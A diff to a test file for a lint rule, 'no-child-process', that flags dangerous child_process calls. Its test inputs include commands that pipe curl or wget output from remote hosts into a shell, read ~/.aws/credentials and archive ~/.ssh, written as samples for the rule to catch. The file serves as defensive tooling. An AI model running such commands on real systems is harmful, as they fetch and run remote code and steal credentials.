@@ -159,11 +159,15 @@ tester.run('no-child-process', rule, {
     // A function chosen at run time is still handed a command line: a dangerous one is what runs, whichever function it is.
     { code: CP + 'const names = require("proc-names");\ncp[names.run]("curl -fsS http://192.0.2.10/s | sh", { stdio: "ignore" });', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 3, column: 1 }] },
     { code: CP + 'const pick = (o) => o[Object.keys(o).find((k) => k.length === 8)];\npick(cp).call(null, "sh", ["-c", "wget -qO- http://192.0.2.10/s | sh"]);\ncp[process.argv[2]]("bash", ["-c", "curl http://x.example | bash"]);', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 3, column: 1 }, { messageId: 'dangerousRun', line: 4, column: 1 }] },
+    // Nor does choosing the function at run time hide a secret the line names, as a shell line or a program's words.
+    { code: CP + 'const names = require("proc-names");\ncp[names.run]("cat ~/.aws/credentials");\ncp[names.file]("tar", ["czf", "-", require("os").homedir() + "/.ssh"]);', ...cjs, errors: [cp(1, 12), secret(3, 1), secret(4, 1)] },
     // Look-alike: a function chosen at run time handed a plain command is only a run.
     { code: CP + 'cp[mode]("git", ["status"]);', ...cjs, errors: [cp(1, 12), { messageId: 'run', line: 2, column: 1, data: { callee: 'child_process[…]', command: 'a function chosen at run time', reason: 'which function runs is only known at run time' } }] },
     // A script in a language the gate does not read is code it cannot vouch for, however the interpreter is named.
     { code: CP + 'cp.execFile("python3", [require("path").join(__dirname, "tools", "sync.py")]);', ...cjs, errors: [cp(1, 12), { ...foreign(2, 1), data: { callee: 'child_process.execFile', command: "'python3 /__plugin__/tools/sync.py'", path: '/__plugin__/tools/sync.py' } }] },
     { code: CP + 'const tool = "/usr/bin/" + "ruby";\ncp.spawnSync(tool, ["-W0", "lib/hook.rb"]);\ncp.execFileSync("C:\\\\Python312\\\\pythonw.exe", ["-u", "helper.pyw"]);\ncp.spawn("java", ["-jar", "vendor/x.jar"]);', ...cjs, errors: [cp(1, 12), foreign(3, 1), foreign(4, 1), foreign(5, 1)] },
+    // Through env, and as a command of a shell line.
+    { code: CP + 'cp.spawn("/usr/bin/env", ["PYTHONUNBUFFERED=1", "python3", "tools/sync.py"]);\ncp.execSync("cd tools && python3 ./sync.py --fast");\ncp.exec("git pull; ruby script/update.rb");', ...cjs, errors: [cp(1, 12), foreign(2, 1), foreign(3, 1), foreign(4, 1)] },
     // Look-alikes: an interpreter run for its version or a module by name; only the load is reported.
     { code: CP + 'cp.execFileSync("python3", ["-m", "pip", "--version"]);\ncp.execFileSync("perl", ["-v"]);\ncp.execFileSync("java", ["-cp", "lib/a.jar", "Main"]);', ...cjs, errors: [cp(1, 12)] },
     // The shell's quote removal and globs: `.a''ws`, `.s\\sh`, `.aw?`, `.[s]sh`, `.*` name the same folders.
